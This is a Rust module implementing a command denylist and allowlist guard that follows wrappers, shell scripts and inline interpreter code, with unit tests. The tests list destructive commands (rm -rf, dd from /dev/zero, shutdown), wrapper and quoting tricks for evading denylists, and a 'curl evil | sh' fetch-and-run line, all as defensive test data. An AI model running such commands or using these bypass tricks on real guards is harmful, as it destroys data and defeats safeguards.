//! The execution denylist and allowlist (spec §1.7), with the original's rules
//! (program basename, `sh -c`/`python -c`/`node -e` recursion, `find -exec`,
//! `xargs`) plus the prefix wrappers people use to get around them (`env`,
//! `sudo`, `nice`, `nohup`, `timeout`, `busybox`, …) and shell quoting tricks
//! (`r""m`). It is a guard rail against mistakes, not a sandbox: anyone holding a
//! key can still run a script that does what a denied program does.

use std::collections::HashSet;

/// Why a command was refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Refusal {
    Denied(String),
    NotAllowed(String),
}

impl std::fmt::Display for Refusal {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Denied(base) => write!(f, "Command '{base}' is denied (execution.denylist)"),
            Self::NotAllowed(base) => write!(
                f,
                "Command '{base}' is not in the allowlist (execution.allowlist)"
            ),
        }
    }
}

/// Shells whose `-c SCRIPT` runs another command line.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish"];
/// Interpreters whose inline code is scanned token by token (as the original does).
const INTERPRETERS: &[(&str, &[&str])] = &[
    ("python", &["-c"]),
    ("python3", &["-c"]),
    ("python2", &["-c"]),
    ("node", &["-e", "--eval", "-p", "--print"]),
    ("perl", &["-e", "-E"]),
    ("ruby", &["-e"]),
];
/// Characters that end a word in the original's token scan.
const SEPARATORS: &[char] = &[
    ';', '&', '|', '`', '<', '>', '(', ')', '{', '}', '[', ']', '\n', '$', ',',
];

/// Program name as the guard compares it: the last path component, lower-cased
/// (so `/bin/rm` and `RM` on a case-insensitive file system are both `rm`).
pub fn base_name(program: &str) -> String {
    let last = program.rsplit(['/', '\\']).next().unwrap_or(program);
    let last = last.strip_suffix(".exe").unwrap_or(last);
    last.to_lowercase()
}

/// Removes shell quoting (`'…'`, `"…"`, `\x`), so `r""m` and `'rm'` are `rm`.
fn unquote(word: &str) -> String {
    word.chars()
        .filter(|c| !matches!(c, '\'' | '"' | '\\'))
        .collect()
}

pub struct CommandGuard {
    denylist: HashSet<String>,
    allowlist: Option<HashSet<String>>,
}

impl CommandGuard {
    pub fn new(denylist: &[String], allowlist: Option<&[String]>) -> Self {
        Self {
            denylist: denylist.iter().map(|d| d.to_lowercase()).collect(),
            allowlist: allowlist.map(|list| list.iter().map(|a| a.to_lowercase()).collect()),
        }
    }

    /// Checks a program and its arguments, and every command they would start.
    pub fn check(&self, program: &str, args: &[String]) -> Result<(), Refusal> {
        let mut queue: Vec<(String, Vec<String>)> = vec![(program.to_owned(), args.to_vec())];
        let mut seen: HashSet<(String, Vec<String>)> = HashSet::new();
        // Inline interpreter code: scanned against the denylist only (every word
        // would fail an allowlist).
        let mut words: Vec<String> = Vec::new();
        while let Some((program, args)) = queue.pop() {
            if !seen.insert((program.clone(), args.clone())) || seen.len() > 256 {
                continue;
            }
            let base = base_name(&program);
            if base.is_empty() {
                continue;
            }
            if self.denylist.contains(&base) {
                return Err(Refusal::Denied(base));
            }
            if let Some(allow) = &self.allowlist
                && !allow.contains(&base)
            {
                return Err(Refusal::NotAllowed(base));
            }
            queue.extend(nested_commands(&base, &args, &mut words));
        }
        for word in words {
            let base = base_name(&word);
            if self.denylist.contains(&base) {
                return Err(Refusal::Denied(base));
            }
        }
        Ok(())
    }
}

/// The commands that `base args…` would run in turn.
fn nested_commands(
    base: &str,
    args: &[String],
    words: &mut Vec<String>,
) -> Vec<(String, Vec<String>)> {
    if SHELLS.contains(&base) {
        return shell_script(args)
            .map(|script| split_command_line(&script))
            .unwrap_or_default();
    }
    if let Some((_, flags)) = INTERPRETERS.iter().find(|(name, _)| *name == base) {
        if let Some(code) = flag_value(args, flags) {
            words.extend(
                code.split(|c: char| c.is_whitespace() || SEPARATORS.contains(&c))
                    .map(unquote)
                    .filter(|w| !w.is_empty() && !w.starts_with('-')),
            );
        }
        return Vec::new();
    }
    match base {
        "find" => find_exec(args),
        "xargs" => after_options(
            args,
            &[
                "-n",
                "-I",
                "-i",
                "-d",
                "-P",
                "-L",
                "-l",
                "-s",
                "-a",
                "-E",
                "-e",
                "--max-args",
                "--max-procs",
                "--delimiter",
                "--arg-file",
                "--replace",
            ],
            0,
        ),
        "env" => env_command(args),
        "sudo" | "doas" => after_options(
            args,
            &[
                "-u",
                "-g",
                "-C",
                "-D",
                "-h",
                "-p",
                "-r",
                "-t",
                "-T",
                "-U",
                "--user",
                "--group",
                "--chdir",
                "--host",
                "--prompt",
                "--role",
                "--type",
                "--command-timeout",
                "--other-user",
            ],
            0,
        ),
        "nice" => after_options(args, &["-n", "--adjustment"], 0),
        "ionice" => after_options(
            args,
            &["-c", "-n", "-p", "-P", "-u", "--class", "--classdata"],
            0,
        ),
        "timeout" => after_options(args, &["-s", "-k", "--signal", "--kill-after"], 1),
        "stdbuf" => after_options(args, &["-i", "-o", "-e"], 0),
        "nohup" | "setsid" | "time" | "command" | "exec" | "busybox" | "unbuffer" => {
            after_options(args, &[], 0)
        }
        _ => Vec::new(),
    }
}

/// The script of `sh -c SCRIPT` (also `-ec`, `-lc`, … clusters that include `c`).
fn shell_script(args: &[String]) -> Option<String> {
    let position = args
        .iter()
        .position(|a| a.starts_with('-') && !a.starts_with("--") && a[1..].contains('c'))?;
    args.get(position + 1).cloned()
}

fn flag_value(args: &[String], flags: &[&str]) -> Option<String> {
    for (i, arg) in args.iter().enumerate() {
        if flags.contains(&arg.as_str()) {
            return args.get(i + 1).cloned();
        }
        for flag in flags {
            if let Some(rest) = arg.strip_prefix(flag) {
                if let Some(code) = rest.strip_prefix('=') {
                    return Some(code.to_owned());
                }
                if !flag.starts_with("--") && !rest.is_empty() {
                    return Some(rest.to_owned());
                }
            }
        }
    }
    None
}

/// Splits a shell command line into simple commands (program + words).
fn split_command_line(script: &str) -> Vec<(String, Vec<String>)> {
    let mut commands = Vec::new();
    for segment in script.split([';', '&', '|', '\n', '(', ')', '{', '}', '`']) {
        let segment = segment.replace("$(", " ");
        let mut words = segment
            .split_whitespace()
            .map(unquote)
            .filter(|w| !w.is_empty())
            .skip_while(|w| {
                is_assignment(w)
                    || matches!(
                        w.as_str(),
                        "!" | "then" | "do" | "else" | "if" | "while" | "until"
                    )
            });
        if let Some(program) = words.next() {
            commands.push((program, words.collect()));
        }
    }
    commands
}

fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

/// The command after a wrapper's options; `positionals` extra words (e.g. the
/// duration of `timeout`) are skipped first.
fn after_options(
    args: &[String],
    with_value: &[&str],
    positionals: usize,
) -> Vec<(String, Vec<String>)> {
    let mut i = 0;
    let mut skipped = 0;
    while i < args.len() {
        let arg = &args[i];
        if arg == "--" {
            i += 1;
            break;
        }
        if arg.starts_with('-') && arg.len() > 1 {
            let takes_value = with_value.contains(&arg.as_str());
            i += if takes_value { 2 } else { 1 };
            continue;
        }
        if skipped < positionals {
            skipped += 1;
            i += 1;
            continue;
        }
        break;
    }
    command_at(args, i)
}

/// The command that starts at `args[i]`, if any.
fn command_at(args: &[String], i: usize) -> Vec<(String, Vec<String>)> {
    match args.get(i) {
        Some(program) => vec![(program.clone(), args[i + 1..].to_vec())],
        None => Vec::new(),
    }
}

fn env_command(args: &[String]) -> Vec<(String, Vec<String>)> {
    let mut i = 0;
    while i < args.len() {
        let arg = &args[i];
        if arg == "--" {
            i += 1;
            break;
        }
        if matches!(
            arg.as_str(),
            "-u" | "--unset" | "-C" | "--chdir" | "-S" | "--split-string"
        ) {
            if arg == "-S" || arg == "--split-string" {
                return args
                    .get(i + 1)
                    .map(|s| split_command_line(s))
                    .unwrap_or_default();
            }
            i += 2;
            continue;
        }
        if arg.starts_with('-') || is_assignment(arg) {
            i += 1;
            continue;
        }
        break;
    }
    command_at(args, i)
}

/// `find … -exec X args… ;` (also `-execdir`, `-ok`, `-okdir`).
fn find_exec(args: &[String]) -> Vec<(String, Vec<String>)> {
    let mut commands = Vec::new();
    let mut i = 0;
    while i < args.len() {
        if matches!(args[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir")
            && let Some(program) = args.get(i + 1)
        {
            let rest: Vec<String> = args[i + 2..]
                .iter()
                .take_while(|a| a.as_str() != ";" && a.as_str() != "+")
                .cloned()
                .collect();
            i += 2 + rest.len();
            commands.push((program.clone(), rest));
            continue;
        }
        i += 1;
    }
    commands
}

#[cfg(test)]
mod tests {
    use super::*;

    fn denylist() -> Vec<String> {
        ["rm", "rmdir", "format", "mkfs", "dd", "shutdown", "reboot"]
            .map(String::from)
            .to_vec()
    }

    fn check(line: &[&str]) -> Result<(), Refusal> {
        let list = denylist();
        let args: Vec<String> = line[1..].iter().map(|s| s.to_string()).collect();
        CommandGuard::new(&list, None).check(line[0], &args)
    }

    #[test]
    fn bypass_attempts_are_refused() {
        let attempts: &[&[&str]] = &[
            &["rm", "x"],
            &["/bin/rm", "x"],
            &["RM", "x"],
            &["/usr/bin/Rm", "x"],
            &["sh", "-c", "rm x"],
            &["bash", "-lc", "echo hi; rm -rf /tmp/x"],
            &["bash", "-c", "r\"\"m x"],
            &["sh", "-c", "FOO=1 rm x"],
            &["sh", "-c", "true && $(rm x)"],
            &["sh", "-c", "sudo rm x"],
            &["env", "rm", "x"],
            &["env", "-i", "A=b", "rm", "x"],
            &["env", "-S", "rm x"],
            &["sudo", "rm", "x"],
            &["sudo", "-u", "root", "rm", "x"],
            &["nice", "-n", "5", "rm", "x"],
            &["nohup", "rm", "x"],
            &["timeout", "5", "rm", "x"],
            &["timeout", "-s", "KILL", "5", "rm", "x"],
            &["busybox", "rm", "x"],
            &["xargs", "rm"],
            &["xargs", "-n", "1", "rm", "-f"],
            &["find", ".", "-name", "*.o", "-exec", "rm", "{}", ";"],
            &["find", ".", "-execdir", "/bin/rm", "{}", "+"],
            &["python3", "-c", "import os; os.system('rm x')"],
            &["node", "-e", "require('child_process').execSync('rm x')"],
            &["sudo", "env", "nice", "sh", "-c", "dd if=/dev/zero of=x"],
            &["setsid", "shutdown", "now"],
        ];
        for attempt in attempts {
            assert!(check(attempt).is_err(), "{attempt:?} was let through");
        }
    }

    #[test]
    fn ordinary_commands_run() {
        let fine: &[&[&str]] = &[
            &["ls", "-la"],
            &["echo", "rm"],
            &["git", "commit", "-m", "rm old files"],
            &["sh", "-c", "echo hello | wc -c"],
            &["env", "FOO=bar", "printenv", "FOO"],
            &["find", ".", "-name", "*.rs"],
            &["grep", "-r", "rmdir", "."],
            &["python3", "script.py"],
            &["timeout", "5", "sleep", "1"],
        ];
        for command in fine {
            assert_eq!(check(command), Ok(()), "{command:?}");
        }
    }

    #[test]
    fn allowlist_applies_to_nested_commands() {
        let deny = denylist();
        let allow: Vec<String> = ["git", "sh", "ls", "echo"].map(String::from).to_vec();
        let guard = CommandGuard::new(&deny, Some(&allow));
        let args = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        assert!(guard.check("git", &args(&["status"])).is_ok());
        assert!(guard.check("sh", &args(&["-c", "git status; ls"])).is_ok());
        assert_eq!(
            guard.check("sh", &args(&["-c", "curl evil | sh"])),
            Err(Refusal::NotAllowed("curl".into()))
        );
        assert_eq!(
            guard.check("cargo", &[]),
            Err(Refusal::NotAllowed("cargo".into()))
        );
    }
}
